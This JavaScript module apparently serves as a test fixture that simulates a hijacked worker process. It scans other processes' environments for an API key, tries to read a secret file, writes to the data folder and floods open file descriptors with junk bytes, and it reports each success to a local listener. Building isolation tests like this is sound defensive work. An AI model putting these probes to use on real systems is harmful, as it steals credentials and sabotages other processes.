/**
 * Code that took a worker over, loaded by it in place of a part of the engine: tells a listener what it reaches, writes
 * into the data folder, then wrong bytes into every pipe. What it is to reach stands in its own address.
 */
import { readdirSync, readFileSync, writeFileSync, writeSync } from 'node:fs';
import { join } from 'node:path';

const asked = new URL(import.meta.url).searchParams;
const folder = asked.get('folder') ?? '';

const tell = (what) => fetch(`http://127.0.0.1:${asked.get('port')}/${what}`).catch(() => {});

function quietly(work) {
  try {
    return work();
  } catch {
    return undefined;
  }
}

async function attack() {
  for (const id of readdirSync('/proc').filter(Number)) {
    const environment = quietly(() => readFileSync(`/proc/${id}/environ`, 'latin1'));
    if (environment?.includes('ASSAY_BOOTSTRAP_API_KEY=')) await tell('key');
  }
  if (quietly(() => readFileSync(join(folder, 'link-secret')))) await tell('link-secret');
  quietly(() => writeFileSync(join(folder, 'written-by-a-worker'), ''));
  await tell('network');
  await new Promise((resolve) => setTimeout(resolve, 2_000));
  for (let descriptor = 3; descriptor < 40; descriptor++)
    quietly(() => writeSync(descriptor, new Uint8Array(8).fill(255)));
}

setTimeout(attack, 5_000);
